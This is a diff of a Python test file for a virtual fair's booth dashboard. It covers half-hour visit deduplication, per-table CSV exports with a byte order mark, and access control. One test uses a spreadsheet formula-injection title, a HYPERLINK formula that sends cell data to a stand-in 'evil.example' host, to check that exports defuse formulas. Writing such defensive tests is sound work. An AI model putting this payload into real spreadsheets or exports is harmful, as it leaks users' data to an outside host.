@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-from datetime import timedelta
+from datetime import datetime, timedelta
 
 import httpx
 from sqlalchemy import func, select
@@ -18,7 +18,6 @@ from fair.core.tables import utcnow
 from fair.hall import dashboard
 from fair.hall.actions import visits
 from fair.hall.channels import team_channel
-from fair.hall.events import BoothSummary
 from fair.hall.inputs import CardInput, ChatPost
 from fair.hall.models import BoothVisit
 from fair.hall.rules import MediaKind
@@ -32,15 +31,23 @@ from tests.support.servers import RunningServer
 # Visits
 
 
+def half_hour_start() -> datetime:
+    """10:00 UTC today: the start of a half-hour, far from midnight, so looks a few minutes
+    after it share its slot and its day."""
+    return utcnow().replace(hour=10, minute=0, second=0, microsecond=0)
+
+
 async def test_visits_and_unique_visitors_are_counted_per_day(db: Database) -> None:
-    """Four looks by three people today, and one yesterday, make two day rows, newest first."""
+    """Four looks by three people today (one of them twice in a half-hour: one visit), and
+    one yesterday, make two day rows, newest first."""
     organiser = await someone(db, Role.ORGANISER)
     team_user = await person(db)
     made = await booth(db, organiser, team=[team_user])
     returning, once = await someone(db), await someone(db)
-    for looker in (returning, returning, once, anonymous("a-browser")):
-        await visits.record_visit(db, looker, made.id)
-    today = utcnow()
+    start = half_hour_start()
+    for minute, looker in enumerate((returning, returning, once, anonymous("a-browser"))):
+        await visits.record_visit(db, looker, made.id, start + timedelta(minutes=minute))
+    today = start
     async with db.transaction() as tx:
         # Yesterday's visit is written directly: the action always counts today.
         yesterday = today - timedelta(days=1)
@@ -50,24 +57,27 @@ async def test_visits_and_unique_visitors_are_counted_per_day(db: Database) -> N
         tx.session.add(earlier)
     board = await dashboard.dashboard(db, await viewer(db, team_user), made.id)
     assert [(d.day, d.visits, d.unique_visitors) for d in board.days] == [
-        (today.date(), 4, 3),
+        (today.date(), 3, 3),
         (yesterday.date(), 1, 1),
     ]
 
 
 async def test_each_visit_tells_the_team_todays_totals(db: Database) -> None:
-    """Every visit records hall.booth.visited on booth:<id>:team with today's running totals."""
+    """Every visit records hall.booth.visited on booth:<id>:team with today's running totals;
+    a reload in the same half-hour records nothing, one in the next half-hour is a visit."""
     organiser = await someone(db, Role.ORGANISER)
     made = await booth(db, organiser)
     first, second = await someone(db), await someone(db)
-    for looker in (first, second, first):
-        await visits.record_visit(db, looker, made.id)
+    start = half_hour_start()
+    looks = [(first, 1), (second, 2), (first, 3), (first, 31)]
+    for looker, minutes in looks:
+        await visits.record_visit(db, looker, made.id, start + timedelta(minutes=minutes))
     visited = [
         json.loads(e.data)
         for e in await logged_events(db, team_channel(made.id))
         if e.type == "hall.booth.visited"
     ]
-    day = utcnow().date().isoformat()
+    day = start.date().isoformat()
     assert visited == [
         {"booth_id": made.id, "day": day, "visits": 1, "unique_visitors": 1},
         {"booth_id": made.id, "day": day, "visits": 2, "unique_visitors": 2},
@@ -163,37 +173,41 @@ async def test_starting_an_interview_counts_a_play(server: RunningServer) -> Non
 # The CSV export
 
 
-def csv_rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+def csv_rows(body: bytes) -> list[list[str]]:
+    """The rows of a CSV file, which must start with a byte order mark."""
+    assert body.startswith("\ufeff".encode()), "spreadsheets need the BOM to read UTF-8"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
 
 
-def file_rows(text: str) -> list[list[str]]:
-    """The rows after the `file,kind,downloads,plays` header."""
-    rows = csv_rows(text)
-    return rows[rows.index(["file", "kind", "downloads", "plays"]) + 1 :]
-
-
-async def test_dashboard_csv_has_a_row_per_day_and_per_file(server: RunningServer) -> None:
-    """The team's CSV export lists today's figures, then each file's downloads and plays."""
+async def test_each_table_of_the_dashboard_is_its_own_csv_file(server: RunningServer) -> None:
+    """Two people look at the booth (one of them three times in a minute: one visit): the
+    visits file has today's row, the countries file their country, the files file each
+    file's downloads and plays; each a file of its own with a BOM."""
     booth_id, doc, _interview, cookies = await booth_with_files(server)
     db = server.services.db
-    for looker in (await someone(db), await someone(db)):
+    first, second = await someone(db), await someone(db)
+    for looker in (first, first, first, second):
         await visits.record_visit(db, looker, booth_id)
     async with browser(server, cookies) as http:
         await http.get(f"/media/{doc}")
-        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
-    assert response.status_code == 200
-    assert response.headers["content-type"] == "text/csv; charset=utf-8"
-    assert response.headers["content-disposition"].startswith("attachment; filename=")
-    assert response.headers["content-disposition"].endswith('-dashboard.csv"')
-    assert csv_rows(response.text) == [
-        ["day", "visits", "unique_visitors", "chat_messages", "cards"],
+        visits_file = await http.get(f"/booths/{booth_id}/visits.csv")
+        countries_file = await http.get(f"/booths/{booth_id}/countries.csv")
+        files_file = await http.get(f"/booths/{booth_id}/files.csv")
+        missing = await http.get(f"/booths/{booth_id}/secrets.csv")
+    assert visits_file.status_code == 200
+    assert visits_file.headers["content-type"] == "text/csv; charset=utf-8"
+    assert visits_file.headers["content-disposition"].endswith('-visits.csv"')
+    assert csv_rows(visits_file.content) == [
+        ["Day", "Visits", "Unique visitors", "Chat messages", "Cards"],
         [utcnow().date().isoformat(), "2", "2", "0", "0"],
-        [],
-        ["file", "kind", "downloads", "plays"],
+    ]
+    assert csv_rows(countries_file.content) == [["Country", "Visitors"], ["Senegal", "2"]]
+    assert csv_rows(files_file.content) == [
+        ["File", "Kind", "Downloads", "Plays"],
         ["Report", "document", "1", "0"],
         ["Interview", "interview", "0", "0"],
     ]
+    assert missing.status_code == 404
 
 
 async def test_dashboard_csv_neutralises_formulas_in_titles(server: RunningServer) -> None:
@@ -201,49 +215,49 @@ async def test_dashboard_csv_neutralises_formulas_in_titles(server: RunningServe
     title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
     booth_id, _doc, _interview, cookies = await booth_with_files(server, document_title=title)
     async with browser(server, cookies) as http:
-        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
-    files = file_rows(response.text)
+        response = await http.get(f"/booths/{booth_id}/files.csv")
+    files = csv_rows(response.content)[1:]
     assert files[0] == ["'" + title, "document", "0", "0"]
-    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in files)
 
 
-def test_csv_neutralises_every_formula_trigger() -> None:
-    """Titles starting with = + - @, a tab or a carriage return all get a leading quote."""
-    summary = BoothSummary(
-        id=1,
-        slug="b",
-        title="B",
-        tagline="",
-        state="published",
-        theme="",
-        logo_url="",
-        origin_countries=[],
-        destination_countries=[],
-        organisation_kinds=[],
-    )
-    board = dashboard.Dashboard(
-        summary=summary,
-        days=[],
-        media=[
-            dashboard.MediaRow(n, title, "document", 0, 0)
-            for n, title in enumerate(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "Plain"])
-        ],
-        cards=[],
-        team=[],
-        head=0,
-    )
-    titles = [row[0] for row in file_rows(dashboard.dashboard_csv(board))]
-    assert titles == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "Plain"]
-
-
-async def test_participant_cannot_export_a_dashboard(server: RunningServer) -> None:
-    """A participant asking for a booth's CSV gets 403 and no figures."""
-    booth_id, _doc, _interview, _cookies = await booth_with_files(server)
+async def test_the_team_downloads_the_booths_chat_and_a_participant_gets_nothing(
+    server: RunningServer,
+) -> None:
+    """The chat file lists each message with its author, oldest first, a formula defused; a
+    participant asking for any of the booth's files gets 403 and no figures."""
+    booth_id, _doc, _interview, cookies = await booth_with_files(server)
     db = server.services.db
+    talker = await someone(db)
+    from fair.hall.actions.visits import post_chat_message
+
+    await post_chat_message(db, talker, ChatPost(booth_id=booth_id, body="Hello team"))
+    await post_chat_message(db, talker, ChatPost(booth_id=booth_id, body="=1+1 is two"))
+    async with browser(server, cookies) as http:
+        chat = await http.get(f"/booths/{booth_id}/chat.csv")
+    rows = csv_rows(chat.content)
+    assert rows[0] == ["Written at (UTC)", "Author", "Message", "Removed at", "Why removed"]
+    assert [row[2] for row in rows[1:]] == ["Hello team", "'=1+1 is two"]
     async with browser(server, await login_cookies(db, await person(db))) as http:
-        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
-    assert response.status_code == 403
-    assert "unique_visitors" not in response.text
+        for name in ("visits", "countries", "files", "chat"):
+            response = await http.get(f"/booths/{booth_id}/{name}.csv")
+            assert response.status_code == 403
+            assert "Visitors" not in response.text
+
+
+async def test_reloads_within_a_half_hour_are_one_visit(db: Database) -> None:
+    """Looks at 10:00, 10:20 and 10:40 by one person are two visits (two half-hours)."""
+    organiser = await someone(db, Role.ORGANISER)
+    made = await booth(db, organiser)
+    start = utcnow().replace(minute=0, second=0, microsecond=0)
+    async with db.transaction() as tx:
+        tx.session.add_all(
+            BoothVisit(
+                booth_id=made.id, person="u1", day=start.date(), at=start + timedelta(minutes=m)
+            )
+            for m in (0, 20, 40)
+        )
+    board = await dashboard.dashboard(db, organiser, made.id)
+    assert (board.days[0].visits, board.days[0].unique_visitors) == (2, 1)
 
 
 async def test_a_page_refreshing_its_sections_is_not_counted_as_a_visit(
